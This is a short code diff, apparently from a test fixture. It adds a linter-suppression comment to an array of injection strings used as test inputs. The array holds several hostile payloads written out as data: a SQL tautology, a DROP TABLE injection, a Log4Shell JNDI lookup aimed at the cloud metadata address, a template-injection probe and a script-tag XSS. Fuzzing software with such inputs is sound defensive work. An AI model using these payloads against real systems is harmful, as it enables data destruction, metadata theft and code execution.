@@ -21,6 +21,7 @@ function rng(seed: number) {
 const INJECTIONS = [
   "' OR '1'='1' --",
   '"; DROP TABLE jobs; --',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   '${jndi:ldap://169.254.169.254/a}',
   '{{7*7}}',
   '<script>alert(1)</script>',
